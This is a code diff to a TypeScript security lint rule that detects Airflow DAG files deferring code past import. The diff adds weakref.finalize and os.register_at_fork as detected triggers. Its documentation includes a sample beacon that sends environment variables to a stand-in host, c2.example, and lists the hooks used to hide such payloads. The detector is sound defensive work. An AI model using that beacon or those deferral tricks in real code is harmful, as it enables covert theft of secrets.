@@ -16,6 +16,10 @@ const STARTERS: ReadonlyMap<string, string> = new Map([
   ['sys.setprofile', 'a profile hook'],
   ['sys.addaudithook', 'an audit hook'],
   ['threading.settrace', 'a thread trace hook'],
+  // run when the object is collected or the interpreter exits (a module global: at exit), and in every forked child
+  // (Airflow forks the processor and each task runner)
+  ['weakref.finalize', 'a finalizer'],
+  ['os.register_at_fork', 'a fork hook'],
 ]);
 
 /**
@@ -44,7 +48,7 @@ export default defineRule({
     },
     docs: {
       what:
-        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`; and executors or event loops given a local function that reaches the network or starts processes (`pool.submit(f)`, `loop.run_in_executor(None, f)`, `loop.call_later(5, f)`, `_thread.start_new_thread(f, ())`: *high*). *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body). Also, *high*: a function of the file run at parse time by a plain module-level call (`_setup()`), as a decorator (`@deco`, `@deco(…)`), as a default value (`def f(x=_helper())`), or by a class statement (the metaclass\'s `__new__`/`__init__` for `class P(metaclass=Meta)`, a base class\'s `__init_subclass__`), whose body — or a local function it calls, three levels deep — reaches the network, starts a process or runs code. The outbound call itself (the `requests.post(…)` in the thread\'s target, the `subprocess.Popen(…)` in the helper called at module level) is reported too, *high*, naming what starts it: it is the line to remove, and the parse-time rules (DG601, DG607…) do not look into function bodies. `@task`-decorated functions are not followed: calling them at parse time does not run their body. The body of a `@dag` function is parse-time code itself (Airflow runs it to build the DAG): what it does is reported where it does it, by DG601, DG602, DG604, DG605, DG607…, and the local functions it calls are followed from there.',
+        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`, `weakref.finalize(obj, f)` (run at exit for a module global), `os.register_at_fork(after_in_child=f)` (run in every forked child: Airflow forks task runners); and executors or event loops given a local function that reaches the network or starts processes (`pool.submit(f)`, `loop.run_in_executor(None, f)`, `loop.call_later(5, f)`, `_thread.start_new_thread(f, ())`: *high*). *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body). Also, *high*: a function of the file run at parse time by a plain module-level call (`_setup()`), as a decorator (`@deco`, `@deco(…)`), as a default value (`def f(x=_helper())`), or by a class statement (the metaclass\'s `__new__`/`__init__` for `class P(metaclass=Meta)`, a base class\'s `__init_subclass__`), whose body — or a local function it calls, three levels deep — reaches the network, starts a process or runs code. The outbound call itself (the `requests.post(…)` in the thread\'s target, the `subprocess.Popen(…)` in the helper called at module level) is reported too, *high*, naming what starts it: it is the line to remove, and the parse-time rules (DG601, DG607…) do not look into function bodies. `@task`-decorated functions are not followed: calling them at parse time does not run their body. The body of a `@dag` function is parse-time code itself (Airflow runs it to build the DAG): what it does is reported where it does it, by DG601, DG602, DG604, DG605, DG607…, and the local functions it calls are followed from there.',
       why:
         'Parse-time rules look at module-level code because function bodies do not run at import — unless the module starts them: a thread keeps running in the dag-processor after the import returns, an exit handler runs when the processor recycles, a signal handler or trace hook runs inside Airflow\'s own code. It is how a malicious DAG file defers its payload past a naive review.',
       example: '```python\nimport threading, requests, os\ndef _beacon():\n    requests.post("https://c2.example", data=dict(os.environ))\nthreading.Thread(target=_beacon, daemon=True).start()\n```',
@@ -76,13 +80,15 @@ export default defineRule({
       return;
     }
     const target =
-      fn === 'signal.signal'
-        ? args.positional[1] ?? args.keywords.get('handler')
-        : fn === 'threading.Timer'
-          ? args.positional[1] ?? args.keywords.get('function')
-          : fn.startsWith('sys.') || fn === 'threading.settrace' || fn === 'atexit.register'
-            ? args.positional[0]
-            : args.keywords.get('target') ?? args.positional[1];
+      fn === 'os.register_at_fork'
+        ? args.keywords.get('after_in_child') ?? args.keywords.get('before') ?? args.keywords.get('after_in_parent')
+        : fn === 'signal.signal' || fn === 'weakref.finalize'
+          ? args.positional[1] ?? args.keywords.get('handler') ?? args.keywords.get('func')
+          : fn === 'threading.Timer'
+            ? args.positional[1] ?? args.keywords.get('function')
+            : fn.startsWith('sys.') || fn === 'threading.settrace' || fn === 'atexit.register'
+              ? args.positional[0]
+              : args.keywords.get('target') ?? args.positional[1];
     if (!target) return;
     const t = unwrap(target);
     const name = t.type === 'identifier' || t.type === 'attribute' ? t.text : t.type === 'lambda' ? 'a lambda' : null;
